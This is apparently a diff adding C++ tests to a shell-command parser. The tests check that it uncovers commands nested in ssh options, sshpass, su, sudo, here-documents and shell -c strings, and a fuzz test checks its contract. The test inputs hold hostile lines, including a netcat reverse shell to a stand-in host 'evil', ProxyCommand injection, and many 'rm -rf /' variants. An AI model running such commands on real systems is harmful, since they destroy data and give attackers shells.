@@ -7,6 +7,7 @@
 #include <random>
 #include <sstream>
 #include <string>
+#include <tuple>
 #include <vector>
 
 #include "bindings/shell_parser.h"
@@ -960,6 +961,35 @@ TEST_CASE("ssh's remote command is shell text", "[shell][wrap]") {
   CHECK(s.commands[1].wrappers == V{"ssh", "sudo"});
 }
 
+TEST_CASE("ssh -o ProxyCommand runs a local shell command", "[shell][wrap]") {
+  const ParseResult r = ok("ssh -o ProxyCommand='nc -e sh evil 1' host");
+  REQUIRE(r.commands.size() == 2);
+  CHECK(r.commands[0].program == "ssh");
+  CHECK(r.commands[0].argv == V{"ssh", "-o", "ProxyCommand=nc -e sh evil 1", "host"});
+  CHECK(r.commands[1].argv == V{"nc", "-e", "sh", "evil", "1"});
+  CHECK(r.commands[1].wrappers == V{"ssh", "exec"});  // ssh runs `exec CMD`
+  CHECK(r.commands[1].depth == 1);
+  CHECK(programs(ok("ssh -o 'ProxyCommand ;sh 0<&2 1>&2' x")) == V{"ssh", "exec", "sh"});
+  CHECK(programs(ok("ssh -oproxycommand=curl\\ x -p 2 host ls")) == V{"ssh", "curl", "ls"});
+  CHECK(programs(ok("ssh host -o 'LocalCommand = id' ls")) == V{"ssh", "id", "ls"});
+  CHECK(programs(ok("ssh -o KnownHostsCommand=id host")) == V{"ssh", "id"});
+  CHECK(programs(ok("ssh -o ProxyCommand=none host")) == V{"ssh"});
+  CHECK(programs(ok("ssh -o ProxyJump=j host")) == V{"ssh"});
+}
+
+TEST_CASE("sshpass runs its command", "[shell][wrap]") {
+  for (const char* line : {"sshpass -p pw ssh host rm -rf /", "sshpass -f file -v ssh host rm -rf /",
+                           "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    CHECK(r.commands[0].program == "ssh");
+    CHECK(r.commands[0].wrappers == V{"sshpass"});
+    is_rm_rf_root(r.commands[1]);
+    CHECK(r.commands[1].wrappers == V{"sshpass", "ssh"});
+  }
+}
+
 TEST_CASE("ssh without a remote command is left alone", "[shell][wrap]") {
   for (const char* line : {"ssh host", "ssh -p 22 host", "ssh -N -L 8080:localhost:80 host",
                            "ssh -i ~/.ssh/id host"}) {
@@ -969,6 +999,45 @@ TEST_CASE("ssh without a remote command is left alone", "[shell][wrap]") {
     CHECK(c.wrappers.empty());
     CHECK(c.args.back() == "host");
   }
+}
+
+TEST_CASE("a shell started by a wrapper runs the line's here-document or here-string",
+          "[shell][wrap]") {
+  const std::vector<std::tuple<std::string, V, V, int>> cases = {
+      // line, programs, wrappers of the script's command, its depth
+      {"ssh host bash <<'EOF'\nrm -rf /\nEOF", {"ssh", "bash", "rm"}, {"ssh", "bash"}, 2},
+      {"ssh host <<EOF\nrm -rf /\nEOF", {"ssh", "rm"}, {"ssh"}, 1},
+      {"ssh -p 22 host sh -s <<< 'rm -rf /'", {"ssh", "sh", "rm"}, {"ssh", "sh"}, 2},
+      {"su - root <<EOF\nrm -rf /\nEOF", {"su", "rm"}, {"su"}, 1},
+      {"sudo su <<< 'rm -rf /'", {"su", "rm"}, {"sudo", "su"}, 1},
+      {"su -c bash root <<EOF\nrm -rf /\nEOF", {"bash", "rm"}, {"su", "bash"}, 2},
+      {"sudo -s <<EOF\nrm -rf /\nEOF", {"sudo", "rm"}, {"sudo"}, 1},
+      {"sudo -i <<< 'rm -rf /'", {"sudo", "rm"}, {"sudo"}, 1},
+      {"chroot /x <<EOF\nrm -rf /\nEOF", {"chroot", "rm"}, {"chroot"}, 1},
+      {"sg wheel <<EOF\nrm -rf /\nEOF", {"sg", "rm"}, {"sg"}, 1},
+      {"runuser -l app <<EOF\nrm -rf /\nEOF", {"runuser", "rm"}, {"runuser"}, 1},
+      {"script -q /dev/null <<EOF\nrm -rf /\nEOF", {"script", "rm"}, {"script"}, 1},
+      {"find . -exec sh \\; <<EOF\nrm -rf /\nEOF", {"find", "sh", "rm"}, {"find", "sh"}, 1},
+  };
+  for (const auto& [line, progs, wrappers, depth] : cases) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    CHECK(programs(r) == progs);
+    const SimpleCommand& c = r.commands.back();
+    is_rm_rf_root(c);
+    CHECK(c.wrappers == wrappers);
+    CHECK(c.depth == depth);
+  }
+  // A wrapper that runs a command does not hand it the here-document as a script.
+  CHECK(programs(ok("ssh host cat <<EOF\nrm -rf /\nEOF")) == V{"ssh", "cat"});
+  CHECK(programs(ok("sudo -s cat <<EOF\nrm -rf /\nEOF")) == V{"cat"});
+  Limits limits;
+  limits.max_depth = 1;
+  fails("ssh host bash <<EOF\nls\nEOF", limits);
+  ok("ssh host <<EOF\nls\nEOF", limits);
+  fails("ssh host bash <<< ls", limits);
+  const ParseResult r = ok("ssh host <<< ls", limits);
+  CHECK(r.commands.back().depth == 1);
 }
 
 TEST_CASE("find -exec runs its command with operands known at run time", "[shell][wrap]") {
@@ -1105,6 +1174,18 @@ TEST_CASE("other shells and combined options", "[shell]") {
       {"ksh -c 'rm -rf /'", "ksh"},          {"bash -o pipefail -c 'rm -rf /'", "bash"},
       {"bash --norc -c 'rm -rf /' arg0", "bash"}, {"bash -c -e 'rm -rf /'", "bash"}};
   for (const auto& [line, shell] : cases) {
+    INFO(line);
+    const SimpleCommand c = one(line);
+    is_rm_rf_root(c);
+    CHECK(c.wrappers == V{shell});
+    CHECK(c.depth == 1);
+  }
+}
+
+TEST_CASE("every shell runs its -c string", "[shell][wrap]") {
+  for (const char* shell : {"bash", "sh", "zsh", "dash", "ksh", "ash", "mksh", "rbash", "yash",
+                            "posh", "fish", "csh", "tcsh"}) {
+    const std::string line = std::string(shell) + " -c 'rm -rf /'";
     INFO(line);
     const SimpleCommand c = one(line);
     is_rm_rf_root(c);
@@ -1716,4 +1797,44 @@ TEST_CASE("an assignment after the time keyword is still an assignment", "[shell
   CHECK(c.program == "ls");
   REQUIRE(c.assignments.size() == 1);
   CHECK(c.assignments[0].name == "LD_PRELOAD");
+}
+
+TEST_CASE("random wrapper soup keeps the parser's contract", "[shell][wrap][limits]") {
+  static const char* const kTokens[] = {
+      "ssh", "h", "-p", "22", "-o", "ProxyCommand=ls", "su", "-c", "-", "root", "find", ".",
+      "-exec", "\\;", "+", "{}", "watch", "-n", "1", "parallel", ":::", "::::", "sudo", "-s",
+      "-i", "bash", "sh", "<<<", "'ls'", "flock", "/l", "busybox", "xargs", "timeout", "env",
+      "-S", "eval", "script", "sg", "g", "chroot", "/x", "ls", "rm", "-rf", "/", "|", ";", "&&",
+      "\"", "'", "$(", ")", "`", "*", "$X", "<<EOF\nls\nEOF\n", "runuser", "-u", "setsid",
+      "sshpass", "taskset", "chrt", "nsenter", "unshare", "pkexec", "-ok", "--"};
+  std::mt19937 rng(7);
+  std::uniform_int_distribution<std::size_t> pick(0, std::size(kTokens) - 1);
+  std::uniform_int_distribution<int> len(1, 24);
+  Limits limits;
+  limits.max_depth = 4;
+  limits.max_commands = 64;
+  limits.max_words = 64;
+  for (int n = 0; n < 20000; ++n) {
+    std::string line;
+    for (int k = len(rng); k > 0; --k) line += std::string(kTokens[pick(rng)]) + " ";
+    INFO(line);
+    const ParseResult r = parse(line, limits);
+    const ParseResult again = parse(line, limits);
+    REQUIRE(r.ok == again.ok);
+    REQUIRE(r.commands.size() == again.commands.size());
+    if (!r.ok) {
+      REQUIRE_FALSE(r.error.empty());
+      continue;
+    }
+    REQUIRE(r.commands.size() <= limits.max_commands);
+    for (std::size_t k = 0; k < r.commands.size(); ++k) {
+      const SimpleCommand& c = r.commands[k];
+      REQUIRE(c.depth >= 0);
+      REQUIRE(c.depth <= limits.max_depth);
+      REQUIRE(c.argv == again.commands[k].argv);
+      REQUIRE(c.wrappers == again.commands[k].wrappers);
+      REQUIRE(c.dynamic == (c.glob || c.expansion || c.runtime_operands));
+      if (c.argv.empty()) REQUIRE(c.program.empty());
+    }
+  }
 }
